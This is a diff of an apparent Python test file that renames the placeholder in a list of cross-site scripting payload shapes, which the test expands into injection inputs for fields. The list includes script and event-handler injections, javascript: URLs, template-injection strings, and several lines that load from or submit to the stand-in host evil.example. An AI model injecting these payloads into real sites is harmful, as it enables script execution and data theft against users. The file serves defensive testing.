@@ -21,44 +21,44 @@ from flockwise.store.policy import CheckpointPolicy
 
 SHAPES = [
     *r"""
-<script>alert(@)</script>
-</script><script>alert(@)</script>
-<img src=x onerror=alert(@)>
-"><svg onload=alert(@)>
-'><body onload=alert(@)>
-javascript:alert(@)
-<a href=javascript:alert(@)>x</a>
-data:text/html,<script>alert(@)</script>
-{{constructor.constructor('alert(@)')()}}
-${alert(@)}
-<!--<script>alert(@)//-->
-]]><script>alert(@)</script>
-<iframe srcdoc='<script>alert(@)</script>'></iframe>
-<link rel=stylesheet href=//evil.example/@.css>
-<style>@import '//evil.example/@';</style>
-<img src=//evil.example/@.png>
-<base href=//evil.example/@/>
-<object data=//evil.example/@></object>
-<meta http-equiv=refresh content='0;url=//evil.example/@'>
-<form action=//evil.example/@><input autofocus></form>
-<input autofocus onfocus=alert(@)>
-<details open ontoggle=alert(@)>
-<video><source onerror=alert(@)></video>
-<noscript><p title="</noscript><img src=x onerror=alert(@)>">
-<math><mtext><script>alert(@)</script></mtext></math>
-\u003cscript\u003ealert(@)\u003c/script\u003e
-&lt;script&gt;alert(@)&lt;/script&gt;
-%3Cscript%3Ealert(@)%3C/script%3E
+<script>alert(§)</script>
+</script><script>alert(§)</script>
+<img src=x onerror=alert(§)>
+"><svg onload=alert(§)>
+'><body onload=alert(§)>
+javascript:alert(§)
+<a href=javascript:alert(§)>x</a>
+data:text/html,<script>alert(§)</script>
+{{constructor.constructor('alert(§)')()}}
+${alert(§)}
+<!--<script>alert(§)//-->
+]]><script>alert(§)</script>
+<iframe srcdoc='<script>alert(§)</script>'></iframe>
+<link rel=stylesheet href=//evil.example/§.css>
+<style>@import '//evil.example/§';</style>
+<img src=//evil.example/§.png>
+<base href=//evil.example/§/>
+<object data=//evil.example/§></object>
+<meta http-equiv=refresh content='0;url=//evil.example/§'>
+<form action=//evil.example/§><input autofocus></form>
+<input autofocus onfocus=alert(§)>
+<details open ontoggle=alert(§)>
+<video><source onerror=alert(§)></video>
+<noscript><p title="</noscript><img src=x onerror=alert(§)>">
+<math><mtext><script>alert(§)</script></mtext></math>
+\u003cscript\u003ealert(§)\u003c/script\u003e
+&lt;script&gt;alert(§)&lt;/script&gt;
+%3Cscript%3Ealert(§)%3C/script%3E
 __proto__
 constructor
 {a|<b>}
-url(//evil.example/@)
-<svg><use href=//evil.example/@#x></use></svg>
+url(//evil.example/§)
+<svg><use href=//evil.example/§#x></use></svg>
 """.strip().splitlines(),
-    "\u2028alert(@)\u2029",
+    "\u2028alert(§)\u2029",
 ]
 WAYS = (str, str.upper, '"{}'.format, "'`{}".format, "{0}{0}".format, "{}//".format)
-PAYLOADS = [way(shape.replace("@", str(number))) for way in WAYS for number, shape in enumerate(SHAPES)]
+PAYLOADS = [way(shape.replace("§", str(number))) for way in WAYS for number, shape in enumerate(SHAPES)]
 AT_ONCE = 20  # payloads in one run
 FIELDS = 14  # texts that each of them is put into, counted below
 
